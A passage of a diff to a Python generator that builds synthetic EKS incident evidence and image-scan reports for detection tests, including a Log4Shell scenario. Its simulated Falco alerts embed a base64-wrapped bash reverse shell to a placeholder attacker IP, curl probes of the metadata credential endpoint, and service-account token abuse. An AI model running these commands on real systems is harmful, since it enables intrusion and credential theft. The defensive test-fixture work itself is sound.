@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Generate six attack scenarios for attacker scoping under examples/scenarios/.
+"""Generate eight scenarios for attacker scoping and image vulnerabilities under examples/scenarios/.
 
   access-entry-xacct/  a stolen IAM user key gives a role in another account an EKS access entry with
                        AmazonEKSClusterAdminPolicy; that role's sessions read secrets and deploy a
@@ -19,6 +19,11 @@
   shared-ground/       five engineers share an office address and touch the same pod and secret; one's SSO
                        session, stolen, binds cluster-admin to a new service account whose token starts a
                        privileged pod; the policy names no trusted address or admin (prod-finance, eu-north-1).
+  vulnerable-web-image/ Log4Shell in a Java web app whose image Inspector reports (joined by digest): a reverse shell, an
+                       IMDS probe, the pod's token used, a tunnelling tool; look-alikes: an image with HIGH findings and
+                       no exploit, a Trivy report of the same tag at an older digest (prod-portal, ap-northeast-1).
+  vulnerable-images-benign/ a benign production day on images with CRITICAL/HIGH findings (ECR basic scan joined by
+                       digest, Grype joined by tag only): Medium, nothing exploited (prod-travel, eu-west-3).
 
 Each scenario is an evidence folder, its truth file (`<name>.truth.json`, with the machine-scorable
 `expect` block tests/scenarios reads) and its organisation policy (`<name>.eksir.yaml`) beside it.
@@ -31,6 +36,7 @@ Deterministic: fixed seeds, fixed timestamps, gzip mtime 0. Standard library onl
 """
 
 import argparse
+import base64
 import gzip
 import hashlib
 import importlib.util
@@ -130,9 +136,11 @@ def controller_reason(controller):
 
 
 def controller_pod(C, t, ns, name, owner, node, containers, sa, controller, label, step, labels=None, host_network=False,
-                   phase="Running", tolerations=None, node_selector=None):
+                   phase="Running", tolerations=None, node_selector=None, image_ids=None, pod_ip=None):
     """The controller creates the pod (ownerReferences), the scheduler binds it, the kubelet fetches its
-    token and reports it. Returns the time of the last record."""
+    token and reports it. Returns the time of the last record. image_ids: container name -> the imageID the
+    kubelet reports (repository@sha256:..., or the bare image id of an image without a repository digest);
+    pod_ip: the podIP it reports."""
     user = u_sa("kube-system", controller)
     pod_uid = stable_uuid(f"pod/{ns}/{name}")
     spec = {"containers": containers, "serviceAccountName": sa, "restartPolicy": "OnFailure" if owner["kind"] == "Job" else "Always"}
@@ -173,10 +181,16 @@ def controller_pod(C, t, ns, name, owner, node, containers, sa, controller, labe
               "state": ({"running": {"startedAt": iso_s(ts)}} if phase == "Running"
                         else {"terminated": {"exitCode": 0, "reason": "Completed", "startedAt": iso_s(ts)}})}
              for c in containers]
+    if image_ids:
+        cstat = [{k: v for k, v in list(cs.items())[:2]} | ({"imageID": image_ids[cs["name"]]} if cs["name"] in image_ids else {})
+                 | {k: v for k, v in list(cs.items())[2:]} for cs in cstat]
+    st = {"phase": phase, "hostIP": node.ip}
+    if pod_ip:
+        st["podIP"] = pod_ip
+    st["containerStatuses"] = cstat
     audit(ts, M.u_node(node, C["node_role"], C["node_role_id"]), "patch", f"/api/v1/namespaces/{ns}/pods/{name}/status",
           oref("pods", ns, name, sub="status", uid_=pod_uid), level="Request", ua=C["kubelet"], src=[node.ip],
-          req={"metadata": {"uid": pod_uid}, "status": {"phase": phase, "hostIP": node.ip, "containerStatuses": cstat}},
-          label=label, step=step)
+          req={"metadata": {"uid": pod_uid}, "status": st}, label=label, step=step)
     return ts
 
 
@@ -452,6 +466,8 @@ def activity_window(recs):
     """First and last malicious activity: API calls and the runtime events Falco saw as they happened
     (the findings of GuardDuty and the EDR come later and are detections, not activity)."""
     times = [parse_t(r["time"]) for r in recs if r["label"] == "attack" and r["source"] not in ("guardduty", "ocsf")]
+    if not times:   # a benign day: no malicious window
+        return None, None
     return iso_s(min(times)), iso_s(max(times))
 
 
@@ -461,7 +477,8 @@ def finish_truth(out, name, head, files, expect, lookalike_steps=(), extra_last=
     if extra_last and extra_last > last:
         last = extra_last
     e = dict(expect)
-    e.setdefault("window", {"first": first, "last": last})
+    if first:
+        e.setdefault("window", {"first": first, "last": last})
     e["timeline"] = expected_timeline(recs)
     e["timeline_not"] = lookalike_ids(recs, set(lookalike_steps))
     keyed = {}
@@ -3395,6 +3412,1273 @@ def build_shared_ground(out):
     counts = finish_truth(out, "shared-ground", head, files, expect,
                           ("lookalike-farid-rollout", "lookalike-secret-reads", "lookalike-admin-exec", "lookalike-dana-own-work"))
     return base, files, counts, check(base, os.path.join(out, "shared-ground.truth.json"), sg_consistency)
+# =============================================================================================
+# Image scan reports: Amazon Inspector, ECR basic scanning, Trivy and Grype, as each tool writes them
+# =============================================================================================
+def image_digest(text):
+    """The manifest digest (sha256:...) of one pushed build."""
+    return "sha256:" + sha("manifest/" + text)
+
+
+def inspector_finding(image, digest, tags, pushed, last_in_use, in_use, cve, severity, score, vector, exploit, pkgs, title,
+                      desc, first, last, source, source_url, vendor_severity, epss=None, last_exploit=None):
+    """One `aws inspector2 list-findings` finding of type PACKAGE_VULNERABILITY on an ECR image.
+    pkgs: [(name, version, fixed, manager, file_path or None, release or None)]."""
+    repo = image.split("/", 1)[1].rsplit(":", 1)[0]
+    fid = sha(f"inspector/{digest}/{cve}")[:32]
+    f = {"awsAccountId": S().account, "description": desc}
+    if epss is not None:
+        f["epss"] = {"score": epss}
+    f["exploitAvailable"] = "YES" if exploit else "NO"
+    if exploit and last_exploit:
+        f["exploitabilityDetails"] = {"lastKnownExploitAt": last_exploit}
+    f.update({"findingArn": f"arn:aws:inspector2:{S().region}:{S().account}:finding/{fid}",
+              "firstObservedAt": first, "fixAvailable": "YES" if all(p[2] for p in pkgs) else "NO", "inspectorScore": score,
+              "inspectorScoreDetails": {"adjustedCvss": {"adjustments": [], "cvssSource": "NVD", "score": score, "scoreSource": "NVD",
+                                                         "scoringVector": vector, "version": "3.1"}},
+              "lastObservedAt": last})
+    vp = []
+    for name, version, fixed, manager, path, release in pkgs:
+        p = {"epoch": 0}
+        if path:
+            p["filePath"] = path
+        p["fixedInVersion"] = fixed or "NotAvailable"
+        p["name"] = name
+        p["packageManager"] = manager
+        if release:
+            p["release"] = release
+        p["remediation"] = (f"Update {name} to {fixed}" if manager != "OS" else "apt-get update && apt-get upgrade") if fixed else "None Provided"
+        p["version"] = version
+        vp.append(p)
+    f["packageVulnerabilityDetails"] = {
+        "cvss": [{"baseScore": score, "scoringVector": vector, "source": "NVD", "version": "3.1"}],
+        "referenceUrls": [f"https://www.cve.org/CVERecord?id={cve}"], "relatedVulnerabilities": [], "source": source,
+        "sourceUrl": source_url, "vendorCreatedAt": None, "vendorSeverity": vendor_severity, "vulnerabilityId": cve,
+        "vulnerablePackages": vp}
+    del f["packageVulnerabilityDetails"]["vendorCreatedAt"]
+    f["remediation"] = {"recommendation": {"text": "None Provided"}}
+    f["resources"] = [{"details": {"awsEcrContainerImage": {
+        "architecture": "amd64", "imageHash": digest, "imageTags": tags, "inUseCount": in_use, "lastInUseAt": last_in_use,
+        "platform": "UBUNTU_20_04" if "portal" in repo and "report" not in repo else "UBUNTU_22_04",
+        "pushedAt": pushed, "registry": S().account, "repositoryName": repo}},
+        "id": f"arn:aws:ecr:{S().region}:{S().account}:repository/{repo}/{digest}", "partition": "aws", "region": S().region,
+        "type": "AWS_ECR_CONTAINER_IMAGE"}]
+    f.update({"severity": severity, "status": "ACTIVE", "title": title, "type": "PACKAGE_VULNERABILITY", "updatedAt": last})
+    return f
+
+
+def trivy_report(created, image, digest, os_family, os_name, results):
+    """`trivy image -f json` (schema version 2). results: [(target, class, type, [vulnerability])]."""
+    repo = image.rsplit(":", 1)[0]
+    meta_ = {"Size": 301989888, "OS": {"Family": os_family, "Name": os_name},
+             "ImageID": "sha256:" + sha("config/" + image + digest), "DiffIDs": ["sha256:" + sha(f"layer/{image}/{digest}/{i}") for i in range(3)],
+             "RepoTags": [image]}
+    if digest:
+        meta_["RepoDigests"] = [f"{repo}@{digest}"]
+    meta_["ImageConfig"] = {"architecture": "amd64", "os": "linux", "config": {"Entrypoint": ["java", "-jar", "/app/app.jar"]}}
+    return {"SchemaVersion": 2, "CreatedAt": created, "ArtifactName": image, "ArtifactType": "container_image", "Metadata": meta_,
+            "Results": [{"Target": t, "Class": c, "Type": ty, "Vulnerabilities": v} for t, c, ty, v in results]}
+
+
+def trivy_vuln(cve, pkg, installed, fixed, severity, title, source="ghsa", v3=None, path=None, purl=None, status=None):
+    v = {"VulnerabilityID": cve, "PkgID": f"{pkg}@{installed}", "PkgName": pkg}
+    if path:
+        v["PkgPath"] = path
+    if purl:
+        v["PkgIdentifier"] = {"PURL": purl}
+    v["InstalledVersion"] = installed
+    if fixed:
+        v["FixedVersion"] = fixed
+    v["Status"] = status or ("fixed" if fixed else "affected")
+    v.update({"SeveritySource": source, "PrimaryURL": f"https://avd.aquasec.com/nvd/{cve.lower()}", "Title": title, "Severity": severity})
+    if v3:
+        v["CVSS"] = {"nvd": {"V3Vector": v3[1], "V3Score": v3[0]}}
+    return v
+
+
+def ecr_basic_scan(repo, digest, tag, completed, db_updated, findings):
+    """`aws ecr describe-image-scan-findings` of a basic scan. findings: [(cve, severity, pkg, version, description, uri, v3)]."""
+    out, counts = [], {}
+    for cve, sev, pkg, version, desc, uri, v3 in findings:
+        attrs = [{"key": "package_version", "value": version}, {"key": "package_name", "value": pkg}]
+        if v3:
+            attrs += [{"key": "CVSS3_VECTOR", "value": v3[1]}, {"key": "CVSS3_SCORE", "value": f"{v3[0]:.1f}"}]
+        out.append({"name": cve, "description": desc, "uri": uri, "severity": sev, "attributes": attrs})
+        counts[sev] = counts.get(sev, 0) + 1
+    return {"imageScanFindings": {"findings": out, "imageScanCompletedAt": float(epoch(completed)),
+                                  "vulnerabilitySourceUpdatedAt": float(epoch(db_updated)), "findingSeverityCounts": counts},
+            "registryId": S().account, "repositoryName": repo, "imageId": {"imageDigest": digest, "imageTag": tag},
+            "imageScanStatus": {"status": "COMPLETE", "description": "The scan was completed successfully."}}
+
+
+def grype_match(cve, severity, pkg, version, ptype, path, fixes, state, desc, namespace, v3=None, language=""):
+    m = {"vulnerability": {"id": cve, "dataSource": f"https://github.com/advisories/{cve}" if cve.startswith("GHSA") else
+                           f"https://nvd.nist.gov/vuln/detail/{cve}", "namespace": namespace, "severity": severity,
+                           "urls": [], "description": desc,
+                           "cvss": [] if not v3 else [{"version": "3.1", "vector": v3[1], "metrics": {"baseScore": v3[0]}, "vendorMetadata": {}}],
+                           "fix": {"versions": fixes, "state": state}, "advisories": []},
+         "relatedVulnerabilities": [], "matchDetails": [],
+         "artifact": {"id": sha(f"grype/{pkg}/{version}")[:16], "name": pkg, "version": version, "type": ptype,
+                      "locations": [{"path": path}], "language": language, "licenses": [], "cpes": [],
+                      "purl": (f"pkg:golang/{pkg}@{version}" if ptype == "go-module" else f"pkg:deb/debian/{pkg}@{version}?arch=amd64&distro=debian-12"),
+                      "upstreams": []}}
+    return m
+
+
+def grype_report(user_input, image_id, matches, timestamp, repo_digests=(), manifest_digest=None):
+    target = {"userInput": user_input, "imageID": image_id}
+    if manifest_digest:
+        target["manifestDigest"] = manifest_digest
+    target.update({"mediaType": "application/vnd.docker.distribution.manifest.v2+json", "tags": [user_input], "imageSize": 48234496,
+                   "layers": [], "repoDigests": list(repo_digests), "architecture": "amd64", "os": "linux"})
+    return {"matches": matches, "ignoredMatches": [], "source": {"type": "image", "target": target},
+            "distro": {"name": "debian", "version": "12", "idLike": ["debian"]},
+            "descriptor": {"name": "grype", "version": "0.86.1", "configuration": {"output": ["json"]},
+                           "db": {"built": timestamp[:10] + "T01:22:40Z", "schemaVersion": 5}, "timestamp": timestamp}}
+
+
+def write_scan(base, files, rel, doc, count, indent=4):
+    write(os.path.join(base, rel), json.dumps(doc, indent=indent, ensure_ascii=False) + "\n")
+    files[rel] = count
+
+
+def image_id_digest(image_id):
+    """The digest of a pod's imageID (repository@sha256:...); '' for a bare image id (an image without a repository digest)."""
+    return image_id.split("@", 1)[1] if "@" in image_id else ""
+
+
+# =============================================================================================
+# Scenario 7: vulnerable-web-image (prod-portal, ap-northeast-1, 2026-05-19)
+# =============================================================================================
+V = {}
+VW_APP_UA = "fabric8-kubernetes-client/6.9.2"
+VW_CI_KUBECTL = "kubectl/v1.32.3 (linux/amd64) kubernetes/32cc146"
+VW_CURL = "curl/7.68.0"
+GHA_OIDC = "token.actions.githubusercontent.com"
+
+
+def vw_world():
+    new_scenario("vulnerable-web-image", 20260519, "736251409812", "ap-northeast-1", "prod-portal", "2026-05-19",
+                 ["10.127.100.14", "10.127.101.230"], "4e6a8c0e2b4d6f8a1c3e5b7d9f0a2c4e")
+    V.clear()
+    C = V
+    cluster_common(C, "prod-portal", "v1.32.2-eks-bc803b4", "kubelet/v1.32.1-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
+    C["kube_proxy"] = "v1.32.0-minimal-eksbuild.2"
+    C["node_role"], C["node_role_id"] = "prod-portal-node-role", "AROA2VKPRTLNODEROLE4"
+    C["ng"] = "prod-portal-general"
+    C["nodes"] = [Node("ip-10-127-14-88.ap-northeast-1.compute.internal", "10.127.14.88", "i-0d4e5f6a7b8c9d0e1", "ap-northeast-1a",
+                       "ASIA2VKPRTLNODEA1Q7X", "2026-05-15T03:10:22Z", C["ng"]),
+                  Node("ip-10-127-47-201.ap-northeast-1.compute.internal", "10.127.47.201", "i-0e5f6a7b8c9d0e1f2", "ap-northeast-1c",
+                       "ASIA2VKPRTLNODEB2R8Y", "2026-05-15T03:10:27Z", C["ng"]),
+                  Node("ip-10-127-80-36.ap-northeast-1.compute.internal", "10.127.80.36", "i-0f6a7b8c9d0e1f2a3", "ap-northeast-1d",
+                       "ASIA2VKPRTLNODEC3S9Z", "2026-05-15T03:10:31Z", C["ng"])]
+    A, B_, Cn = C["nodes"]
+    C["nat"] = "198.51.100.214"
+    C["metrics_server"] = ("metrics-server-7d9c5b8f6-q2w8r", A, "10.127.14.130")
+    C["coredns_rs"] = "5c7d8b9f64"
+    C["vpc"], C["cluster_sg"] = "vpc-0a4c6e8f0b2d41357", "sg-0b5d7f9a1c3e52468"
+    C["subnets"] = {"ap-northeast-1a": "subnet-0c6e8a0b2d4f63579", "ap-northeast-1c": "subnet-0d7f9b1c3e5a7468a",
+                    "ap-northeast-1d": "subnet-0e8a0c2d4f6b8579b"}
+    C["endpoint"] = "https://C4E6A8B0D2F4A6C8E0B2D4F6A8C0E2B4.gr7.ap-northeast-1.eks.amazonaws.com"
+    C["oidc"] = "C4E6A8B0D2F4A6C8E0B2D4F6A8C0E2B4"
+    C["created"] = "2025-10-06T02:14:51.204000+00:00"
+    C["ami"] = "ami-0a2b4c6d8e0f13579"
+    C["ecr"] = ecr = f"{S().account}.dkr.ecr.{S().region}.amazonaws.com"
+    C["ns"], C["deploy"], C["container"], C["sa"] = "portal", "customer-portal", "portal", "customer-portal"
+    C["repo"] = "portal/customer-portal"
+    C["image"] = f"{ecr}/{C['repo']}:4.12"   # a mutable release tag: CI pushes every build of the 4.12 line under it
+    C["digest"] = image_digest("customer-portal:4.12@2026-05-19")
+    C["digest_old"] = image_digest("customer-portal:4.12@2026-05-12")
+    C["rw"], C["rw_repo"] = "report-worker", "portal/report-worker"
+    C["rw_image"] = f"{ecr}/{C['rw_repo']}:1.8.2"
+    C["rw_digest"] = image_digest("report-worker:1.8.2")
+    C["rs_old"], C["rs_new"], C["rw_rs"] = "6b8c9d7f54", "7f9c6d8b45", "5d7f8c9b64"
+    C["web_pods"] = [(f"customer-portal-{C['rs_new']}-{M.suffix('cp' + str(i))}", n, n.prefix + str(60 + 37 * i))
+                     for i, n in enumerate((A, B_, Cn))]
+    C["old_pods"] = [(f"customer-portal-{C['rs_old']}-{M.suffix('cpo' + str(i))}", n) for i, n in enumerate((A, B_, Cn))]
+    C["pod"], _, C["pod_ip"] = C["web_pods"][0]
+    C["rw_pod"] = (f"report-worker-{C['rw_rs']}-{M.suffix('rw')}", B_, B_.prefix + "143")
+    C["attacker_ip"], C["tunnel_ip"] = "203.0.113.171", "203.0.113.172"
+    C["gha_role"], C["gha_role_id"] = "github-actions-deploy", "AROA2VKPRTLGHADEPL0Y"
+    C["runner_ip"], C["office_ip"] = "198.51.100.221", "192.0.2.90"
+    C["tool"] = "/tmp/.ICE-unix/dbus-daemon-helper"
+    C["tool_sha"] = sha("tunnel-tool")
+    C["java_pid"] = 7
+    C["snap"] = T("15:05:00")
+
+
+def vw_containers(image):
+    return [{"name": "portal", "image": image, "imagePullPolicy": "Always",
+             "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
+             "env": [{"name": "SPRING_PROFILES_ACTIVE", "value": "prod"}, {"name": "JAVA_TOOL_OPTIONS", "value": "-XX:MaxRAMPercentage=75"}],
+             "resources": {"limits": {"memory": "1536Mi"}, "requests": {"cpu": "500m", "memory": "1Gi"}},
+             "securityContext": {"runAsUser": 10001, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]
+
+
+def vw_rw_containers():
+    return [{"name": "report-worker", "image": V["rw_image"], "resources": {"requests": {"cpu": "250m", "memory": "768Mi"}},
+             "securityContext": {"runAsUser": 10001, "runAsNonRoot": True, "allowPrivilegeEscalation": False}}]
+
+
+def vw_image_id(image, digest):
+    return image.rsplit(":", 1)[0] + "@" + digest
+
+
+def vw_ci_ident(key, created):
+    C = V
+    return M.id_role(C["gha_role"], C["gha_role_id"], "GitHubActions", key, created,
+                     extra_ctx={"webIdFederationData": {"federatedProvider": f"arn:aws:iam::{S().account}:oidc-provider/{GHA_OIDC}",
+                                                        "attributes": {}}})
+
+
+def vw_app_user(pod, node):
+    return u_sa(V["ns"], V["sa"], pod, stable_uuid(f"pod/{V['ns']}/{pod}"), node, jti=stable_uuid("jti/" + pod))
+
+
+def vw_app_reason():
+    return rb_reason("customer-portal-config-reader", V["ns"], "Role", "customer-portal-config-reader", "ServiceAccount", V["sa"])
+
+
+def vw_benign():
+    C = V
+    ns, dep = C["ns"], C["deploy"]
+    # 09:10 the release pipeline rebuilds 4.12 (a patch of the same line) and pushes it under the same tag
+    t = T("09:10:41")
+    gha_ua = "aws-sdk-js/3.726.1 ua/2.1 os/linux#6.8.0-1021-azure lang/js md/nodejs#20.18.1 api/{}#3.726.1 m/E,e"
+    key = M.web_identity_assume(t, C["gha_role"], C["gha_role_id"], "GitHubActions", GHA_OIDC,
+                                "repo:example-corp/customer-portal:ref:refs/heads/release/4.12", "sts.amazonaws.com", C["runner_ip"],
+                                gha_ua.format("sts"), "lookalike-ci-rollout")
+    ident = vw_ci_ident(key, t)
+    ct(T("09:11:05"), ident, "ecr.amazonaws.com", "GetAuthorizationToken", params={}, ip=C["runner_ip"], ua=gha_ua.format("ecr"),
+       step="lookalike-ci-rollout")
+    mt = "application/vnd.docker.distribution.manifest.v2+json"
+    ct(T("09:11:48"), ident, "ecr.amazonaws.com", "PutImage",
+       params={"repositoryName": C["repo"], "imageTag": "4.12", "imageManifestMediaType": mt, "registryId": S().account},
+       resp={"image": {"registryId": S().account, "repositoryName": C["repo"],
+                       "imageId": {"imageDigest": C["digest"], "imageTag": "4.12"}, "imageManifestMediaType": mt}},
+       ip=C["runner_ip"], ua=gha_ua.format("ecr"), read_only=False, step="lookalike-ci-rollout")
+    ct(T("09:12:09"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["runner_ip"],
+       ua=gha_ua.format("eks"), step="lookalike-ci-rollout")
+    K = dict(user=u_role("github-actions-deploy", [], S().account, C["gha_role"], C["gha_role_id"], "GitHubActions", key),
+             src=[C["runner_ip"]], ua=VW_CI_KUBECTL,
+             reason=M.policy_reason(f"arn:aws:iam::{S().account}:role/{C['gha_role']}", "github-actions-deploy", "AmazonEKSEditPolicy"),
+             step="lookalike-ci-rollout")
+    audit(T("09:12:30.118204"), verb="get", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}",
+          objref=oref("deployments", ns, dep, "apps"), level="Request", **K)
+    t = T("09:12:31.402917")
+    restarted = "2026-05-19T09:12:31Z"
+    tl = {"app.kubernetes.io/name": dep, "app.kubernetes.io/part-of": "portal"}
+    dep_uid = stable_uuid(f"Deployment/{ns}/{dep}")
+    audit(t, verb="patch", uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{dep}?fieldManager=kubectl-rollout",
+          objref=oref("deployments", ns, dep, "apps", uid_=dep_uid), level="RequestResponse",
+          req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": restarted}}}}},
+          resp={"kind": "Deployment", "apiVersion": "apps/v1",
+                "metadata": {"name": dep, "namespace": ns, "uid": dep_uid, "generation": 31},
+                "spec": {"replicas": 3, "selector": {"matchLabels": {"app.kubernetes.io/name": dep}},
+                         "template": {"metadata": {"labels": tl, "annotations": {"kubectl.kubernetes.io/restartedAt": restarted}},
+                                      "spec": {"containers": vw_containers(C["image"]), "serviceAccountName": C["sa"]}}}},
+          **K)
+    rs = f"{dep}-{C['rs_new']}"
+    t = later(t, 0, 40, 90)
+    audit(t, u_sa("kube-system", "deployment-controller"), "create", f"/apis/apps/v1/namespaces/{ns}/replicasets",
+          oref("replicasets", ns, rs, "apps"), code=201, level="RequestResponse", ua=kcm_ua(C["server"], "deployment-controller"),
+          req={"kind": "ReplicaSet", "apiVersion": "apps/v1",
+               "metadata": {"name": rs, "namespace": ns, "labels": dict(tl, **{"pod-template-hash": C["rs_new"]}),
+                            "ownerReferences": [owner_ref("Deployment", dep, ns)]},
+               "spec": {"replicas": 1, "template": {"spec": {"containers": vw_containers(C["image"]), "serviceAccountName": C["sa"]}}}},
+          resp={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns,
+                                                                           "uid": stable_uuid(f"ReplicaSet/{ns}/{rs}")}},
+          reason=controller_reason("deployment-controller"), step="rollout-controllers")
+    # a rolling update: one new replica at a time; when it is ready, an old one goes
+    C["started"] = {}
+    for (name, n, ip), (old, _) in zip(C["web_pods"], C["old_pods"]):
+        t = later(t, S().rng.randint(2, 4))
+        ts = controller_pod(C, t, ns, name, owner_ref("ReplicaSet", rs, ns), n, vw_containers(C["image"]), C["sa"],
+                            "replicaset-controller", "benign", "rollout-controllers", labels=dict(tl, **{"pod-template-hash": C["rs_new"]}),
+                            image_ids={"portal": vw_image_id(C["image"], C["digest"])}, pod_ip=ip)
+        C["started"][name] = ts
+        # Spring Cloud Kubernetes reads the app's ConfigMap as the app starts
+        tr = later(ts, 21)
+        audit(tr, vw_app_user(name, n), "get", f"/api/v1/namespaces/{ns}/configmaps/customer-portal-config",
+              oref("configmaps", ns, "customer-portal-config"), ua=VW_APP_UA, src=[ip], reason=vw_app_reason(),
+              step="lookalike-app-config-reads")
+        t = later(tr, 9)
+        audit(t, u_sa("kube-system", "replicaset-controller"), "delete", f"/api/v1/namespaces/{ns}/pods/{old}",
+              oref("pods", ns, old), ua=kcm_ua(C["server"], "replicaset-controller"),
+              reason=controller_reason("replicaset-controller"), step="rollout-controllers")
+    # and every 30 minutes each replica reloads it (the same account, the same pod addresses as the attacker's requests)
+    for h in range(10, 15):
+        for mnt in (0, 30):
+            for i, (name, n, ip) in enumerate(C["web_pods"]):
+                tt = T(f"{h:02d}:{mnt + 2 * i:02d}:{(13 * i + 7) % 60:02d}.{S().rng.randint(100000, 999999)}")
+                audit(tt, vw_app_user(name, n), "get", f"/api/v1/namespaces/{ns}/configmaps/customer-portal-config",
+                      oref("configmaps", ns, "customer-portal-config"), ua=VW_APP_UA, src=[ip], reason=vw_app_reason(),
+                      step="lookalike-app-config-reads")
+    # report-worker, the other Java workload (HIGH findings, no exploit known), does its hourly job as every day
+    name, n, ip = C["rw_pod"]
+    for h in range(10, 15):
+        audit(T(f"{h:02d}:05:{(7 * h) % 60:02d}.{S().rng.randint(100000, 999999)}"),
+              u_sa(ns, C["rw"], name, stable_uuid(f"pod/{ns}/{name}"), n, jti=stable_uuid("jti/" + name)), "get",
+              f"/api/v1/namespaces/{ns}/configmaps/report-worker-config", oref("configmaps", ns, "report-worker-config"),
+              ua=VW_APP_UA, src=[ip], reason=rb_reason("report-worker-config-reader", ns, "Role", "report-worker-config-reader",
+                                                      "ServiceAccount", C["rw"]), step="lookalike-report-worker")
+
+
+def vw_fields(pod, name="portal"):
+    C = V
+    cid = M.container_id(C["ns"], pod, name)[:12]
+    repo, tag = C["image"].rsplit(":", 1)
+    return M.container_fields(pod, C["ns"], cid, repo, tag, name), M.container_text(pod, C["ns"], cid, repo, tag, name)
+
+
+def vw_attack():
+    C = V
+    A = C["nodes"][0]
+    pod, ns, pip, atk = C["pod"], C["ns"], C["pod_ip"], C["attacker_ip"]
+    cf, ctext = vw_fields(pod)
+    X = dict(hostname=A.name)
+    java = "/opt/java/openjdk/bin/java"
+    jcmd = "java -XX:MaxRAMPercentage=75 -jar /app/customer-portal.jar"
+    # 1. Log4Shell: a ${jndi:ldap://203.0.113.171:1389/...} lookup in a logged header loads a class from the attacker's
+    #    server; the class runs bash from the JVM, a reverse shell to 203.0.113.171:4444
+    rev = f"bash -i >& /dev/tcp/{atk}/4444 0>&1"
+    b64 = base64.b64encode(rev.encode()).decode()
+    shcmd = f"bash -c {{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}"
+    t = T("13:47:22.418305")
+    falco(t, 281, "Run shell untrusted", "Notice",
+          tags=["T1059.004", "host", "container", "maturity_stable", "mitre_execution", "process", "shell"],
+          message="Shell spawned by untrusted binary",
+          text_fields=[("parent_exe", java), ("parent_exepath", java), ("pcmdline", jcmd), ("gparent", "containerd-shim"),
+                       ("ggparent", "systemd"), ("aname[4]", "<NA>")]
+                      + M.proc_text("execve", "app", 10001, "bash", "/usr/bin/bash", "java", shcmd, 0) + ctext,
+          fields=dict(cf, **M.proc_fields("execve", "app", 10001, "bash", "/usr/bin/bash", "java", shcmd, 0, 9214),
+                      **{"proc.pexe": java, "proc.pexepath": java, "proc.pcmdline": jcmd, "proc.aname[2]": "containerd-shim",
+                         "proc.aname[3]": "systemd", "proc.aname[4]": None}),
+          step="runtime-log4shell-rce", **X)
+    t2 = T("13:47:22.693117")
+    conn = f"{pip}:38122->{atk}:4444"
+    falco(t2, 904, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
+          tags=["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
+          message="Redirect stdout/stdin to network connection",
+          text_fields=[("gparent", "java"), ("ggparent", "containerd-shim"), ("gggparent", "systemd"), ("fd.sip", atk),
+                       ("connection", conn), ("lport", "38122"), ("rport", "4444"), ("fd_type", "ipv4"), ("fd_proto", "tcp")]
+                      + M.proc_text("dup2", "app", 10001, "bash", "/usr/bin/bash", "bash", "bash -i", 0) + ctext,
+          fields=dict(cf, **M.proc_fields("dup2", "app", 10001, "bash", "/usr/bin/bash", "bash", "bash -i", 0, 9218),
+                      **{"fd.l4proto": "tcp", "fd.lport": 38122, "fd.name": conn, "fd.rport": 4444, "fd.sip": atk, "fd.type": "ipv4",
+                         "proc.aname[2]": "java", "proc.aname[3]": "containerd-shim", "proc.aname[4]": "systemd"}),
+          step="runtime-reverse-shell", **X)
+    # 2. the instance metadata service: IMDSv2 with a hop limit of 1, so the token request from the pod gets no answer
+    for i, (tt, cmd) in enumerate(((T("13:49:05.220914"), "curl -s -m 3 -X PUT -H X-aws-ec2-metadata-token-ttl-seconds: 21600 "
+                                                           "http://169.254.169.254/latest/api/token"),
+                                   (T("13:49:11.907352"), "curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/"))):
+        c2 = f"{pip}:{44610 + 17 * i}->169.254.169.254:80"
+        falco(tt, 117 + i, "Contact EC2 Instance Metadata Service From Container", "Notice",
+              tags=["T1552.005", "aws", "container", "maturity_sandbox", "mitre_credential_access", "network"],
+              message="Outbound connection to EC2 instance metadata service",
+              fields=dict(cf, **M.proc_fields("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", cmd, 0, 9301 + 6 * i),
+                          **{"fd.name": c2, "fd.l4proto": "tcp", "fd.type": "ipv4", "fd.rip": "169.254.169.254", "fd.rport": 80}),
+              text_fields=[("connection", c2), ("lport", str(44610 + 17 * i)), ("rport", "80"), ("fd_type", "ipv4"), ("fd_proto", "tcp")]
+                          + M.proc_text("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", cmd, 0) + ctext,
+              step="runtime-imds-probe", **X)
+    # 3. the pod's service-account token, read from its mount and used with curl against the API server
+    t3 = T("13:50:31.204417")
+    tok = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+    kcmd = (f"curl -sk -H Authorization: Bearer $(cat {tok}) -X POST -d @- "
+            "https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews")
+    c3 = f"{pip}:51844->172.20.0.1:443"
+    falco(t3, 662, "Contact K8S API Server From Container", "Notice",
+          tags=["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
+          message="Unexpected connection to K8s API Server from container",
+          text_fields=[("connection", c3), ("lport", "51844"), ("rport", "443"), ("fd_type", "ipv4"), ("fd_proto", "tcp")]
+                      + M.proc_text("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", kcmd, 0) + ctext,
+          fields=dict(cf, **M.proc_fields("connect", "app", 10001, "curl", "/usr/bin/curl", "bash", kcmd, 0, 9388),
+                      **{"fd.l4proto": "tcp", "fd.lport": 51844, "fd.name": c3, "fd.rport": 443, "fd.type": "ipv4"}),
+          step="k8s-sa-token-abuse", **X)
+    user = vw_app_user(pod, A)
+    uname = user["username"]
+    K = dict(user=user, src=[pip], ua=VW_CURL, label="attack", step="k8s-sa-token-abuse")
+    rr = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
+          "spec": {"namespace": ns}, "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}}
+    audit(M.ms(t3, 180, 260), verb="create", uri="/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
